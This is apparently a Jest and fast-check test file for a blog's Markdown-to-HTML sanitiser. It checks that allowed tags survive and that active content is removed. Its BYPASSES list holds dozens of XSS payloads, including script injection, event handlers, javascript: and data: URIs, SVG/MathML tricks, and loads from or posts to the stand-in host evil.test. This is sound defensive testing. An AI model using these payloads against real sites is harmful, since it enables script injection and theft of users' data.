import { describe, expect, test } from '@jest/globals';
import * as fc from 'fast-check';
import { MarkupTooComplex, renderMarkdown, TAGS_MAX } from '../../src/blog/render-markdown.ts';

const TAGS: ReadonlySet<string> = new Set(
  (
    'h1 h2 h3 h4 h5 h6 p blockquote pre hr br ul ol li dl dt dd figure figcaption details summary table caption thead tbody ' +
    'tfoot tr th td a img em strong b i u s del ins mark small sub sup kbd samp var code abbr cite q ruby rt rp wbr'
  ).split(' '),
);
const ATTRIBUTES: ReadonlySet<string> = new Set(['href', 'src', 'alt', 'title', 'rel', 'class', 'align', 'start']);
const TARGET = /^(?:https?:\/\/[^/\\]|mailto:[^\\]|(?![a-z][a-z0-9+.-]*:|[/\\]{2}|\/\\)[^\\]*$)/i;

/** Takes sanitised HTML apart by its strict shape: any `<` that is no tag of that shape is a fault. */
function faultsOf(html: string): string[] {
  const faults: string[] = [];
  for (const [, rest = ''] of html.matchAll(/<([^>]*>?)/g)) {
    const tag = /^(\/?)([a-z0-9]+)((?: [a-z]+(?:="[^"<>]*")?)*)(?: \/)?>$/.exec(rest);
    if (tag === null || !TAGS.has(tag[2] ?? '')) {
      faults.push(`<${rest}`);
      continue;
    }
    for (const [, name = '', value = ''] of (tag[3] ?? '').matchAll(/ ([a-z]+)(?:="([^"]*)")?/g)) {
      if (!ATTRIBUTES.has(name)) faults.push(`${name}=${value}`);
      if ((name === 'href' || name === 'src') && !TARGET.test(value.replaceAll('&amp;', '&')))
        faults.push(`${name}=${value}`);
    }
  }
  return faults;
}

describe('the test itself', () => {
  test.each([
    '<script>x</script>',
    '<p onclick="x">',
    '<a href="javascript:x">',
    '<a href="//evil.test">',
    '<img src="data:image/svg+xml,x" />',
    '<p style="x">',
    '<b',
    '<a href="https:/\\evil.test">',
  ])('sees that %j is not sanitised', (html) => {
    expect(faultsOf(html)).not.toEqual([]);
  });
});

describe('renderMarkdown keeps what a blog needs [draft.sanitised]', () => {
  test.each([
    ['headings', '# One\n\n### Three', ['<h1>One</h1>', '<h3>Three</h3>']],
    ['emphasis and strikethrough', '*a* **b** ~~c~~', ['<em>a</em>', '<strong>b</strong>', '<s>c</s>']],
    ['lists with a start', '3. a\n4. b', ['<ol start="3">', '<li>a</li>']],
    [
      'code with its language',
      '```diff-js\nlet a < 1;\n```',
      ['<pre><code class="language-diff-js">let a &lt; 1;\n</code></pre>'],
    ],
    [
      'tables with alignment',
      '| a | b |\n|:-:|--:|\n| 1 | 2 |',
      ['<th align="center">a</th>', '<td align="right">2</td>'],
    ],
    [
      'relative links and images',
      '[a](/blog/a.md) ![b](./b.png "B")',
      ['<a href="/blog/a.md">a</a>', '<img src="./b.png" alt="b" title="B" />'],
    ],
    ['fragments', '[a](#code)', ['<a href="#code">a</a>']],
    [
      'raw HTML anchors',
      '<a href="blog/a.md">A</a>\n<a href="/b">B</a>',
      ['<a href="blog/a.md">A</a>', '<a href="/b">B</a>'],
    ],
    ['raw HTML images with spaces', '<img src="./my photo.png" alt="Me">', ['<img src="./my photo.png" alt="Me" />']],
    ['mail addresses', '[a](mailto:a@b.test)', ['<a href="mailto:a@b.test">a</a>']],
    [
      'figures and details',
      '<figure><img src="a.png"><figcaption>A</figcaption></figure>\n\n<details><summary>S</summary>T</details>',
      ['<figcaption>A</figcaption>', '<summary>S</summary>'],
    ],
    ['text of wrappers that it drops', '<div class="x"><span>Kept</span></div>', ['Kept']],
    [
      'absolute links, telling them nothing of the opener',
      '<https://b.test/a>',
      ['<a href="https://b.test/a" rel="noopener noreferrer">https://b.test/a</a>'],
    ],
  ])('%s', (_, body, expected) => {
    const { html } = renderMarkdown(body);
    for (const piece of expected) expect(html).toContain(piece);
    expect(faultsOf(html)).toEqual([]);
  });

  test('plain text without markup, its paragraphs apart', () => {
    const { text, paragraphs } = renderMarkdown(
      '# Title\n\nOne *two*\nthree &amp; `a<b`.\n\n- item\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```\nx  y\n```\n\nFour<br>five &lt;b&gt;.\n',
    );
    expect(text).toBe('Title\n\nOne two three & a<b.\n\nitem\n\na b\n\n1 2\n\nx  y\n\nFour\nfive <b>.');
    expect(paragraphs).toEqual(['One two three & a<b.', 'Four\nfive <b>.']);
  });

  test('targets in order of appearance, once each, and only those that survive', () => {
    const { links, images } = renderMarkdown(
      '[b](https://b.test) [a](/a?x=1&y=2) ![i](i.png) [x](javascript:alert(1)) [b again](https://b.test)\n' +
        '<img src="//evil.test/p.png"><img src="https://c.test/c.png"><a href="vbscript:x">x</a>',
    );
    expect(links).toEqual(['https://b.test', '/a?x=1&y=2']);
    expect(images).toEqual(['i.png', 'https://c.test/c.png']);
  });

  test('autolinks as they are written, so that encoded characters stay encoded', () => {
    expect(renderMarkdown('<https://a.test/%E2%80%AE>').text).toBe('https://a.test/%E2%80%AE');
  });
});

/** Ways around sanitisers, from public cheat sheets and past advisories of parsers. */
const BYPASSES = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.test/x.js></sCrIpT>',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script/x>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x`"onerror="alert(1)">',
  '<img src=x:x onerror\n=alert(1)>',
  '<img """><script>alert(1)</script>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values="javascript:alert(1)"></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="java<!-- -->script:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="/\\evil.test">x</a>',
  '<a href="\\\\evil.test">x</a>',
  '<a href="https:/\\evil.test">x</a>',
  '<a href="https:evil.test">x</a>',
  '<a href="/\t/evil.test">x</a>',
  '<a href=" //evil.test">x</a>',
  '<a href="https://good.test@evil.test/">x</a>',
  '<a href="blob:https://a.test/x">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href=x target=_blank ping=https://evil.test>x</a>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img srcset="https://evil.test/x.png 1x">',
  '<img src=mailto:a@b.test>',
  '<p style="background:url(https://evil.test)">x</p>',
  '<style>@import "https://evil.test/x.css";</style>',
  '<link rel=stylesheet href=https://evil.test/x.css>',
  '<meta http-equiv=refresh content="0;url=https://evil.test">',
  '<base href="https://evil.test/">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,x"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.test"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<xmp><script>alert(1)</script></xmp>',
  '<template><script>alert(1)</script></template>',
  '<title><img src=x onerror=alert(1)></title>',
  '<plaintext><script>alert(1)</script>',
  '<!--><script>alert(1)</script>-->',
  '<!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<p id="location" name="cookie" class="x" contenteditable tabindex=1 autofocus onfocus=alert(1)>x</p>',
  '<code class="language-js x onload language-\\">x</code>',
  '<p/onclick=alert(1)//>x',
  '[x](javascript:alert(1))',
  '[x](javascript&#58;alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](//evil.test)',
  '[x](/\\evil.test)',
  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![x"onerror="alert(1)](y)',
  '![x](y "t\\"onerror=\\"alert(1)")',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '```js"onload="alert(1)\nx\n```',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '`<script>alert(1)</script>`',
];

describe('renderMarkdown lets nothing active through', () => {
  test.each(BYPASSES)('%j', (body) => {
    for (const around of [body, `text ${body} text`, `> ${body}`, `<div>${body}</div>`]) {
      const { html, links, images } = renderMarkdown(around);
      expect(faultsOf(html)).toEqual([]);
      for (const target of [...links, ...images]) {
        expect(new URL(target, 'https://blog.test/articles/').hostname).not.toMatch(/evil\.test$/);
      }
    }
  });

  test('whatever the Markdown', () => {
    const piece = fc.oneof(
      fc.string({ unit: 'binary', maxLength: 8 }),
      fc.constantFrom(...BYPASSES),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '`',
        '&',
        ';',
        '=',
        '/',
        '\\',
        '\n',
        '\n\n',
        ' ',
        '<!--',
        '-->',
        '](',
        '<a href=',
        '<img src=',
        ' onerror=',
        'javascript:',
        '</',
        '&#x',
        '<svg>',
        '<style>',
        '<p>',
        '```',
      ),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        expect(faultsOf(renderMarkdown(pieces.join('')).html)).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });

  test('and rendering what was rendered changes nothing more', () => {
    for (const body of BYPASSES) {
      const { html } = renderMarkdown(`<p>${body.replaceAll('\n', ' ')}</p>`);
      expect(faultsOf(renderMarkdown(html).html)).toEqual([]);
    }
  });

  test('nesting is bounded', () => {
    const { html } = renderMarkdown(`${'<b>'.repeat(5000)}deep`);
    expect(html).toContain('deep');
    expect(html.match(/<b>/g)?.length).toBeLessThanOrEqual(100);
  });
});

test('markup that would take seconds to be made safe is refused before it is sanitised [draft.sanitised]', () => {
  for (const part of ['<b>', '<svg>', '|a|\n|-|\n\n', '- a\n']) {
    expect(() => renderMarkdown(part.repeat(TAGS_MAX + 1))).toThrow(MarkupTooComplex);
  }
});
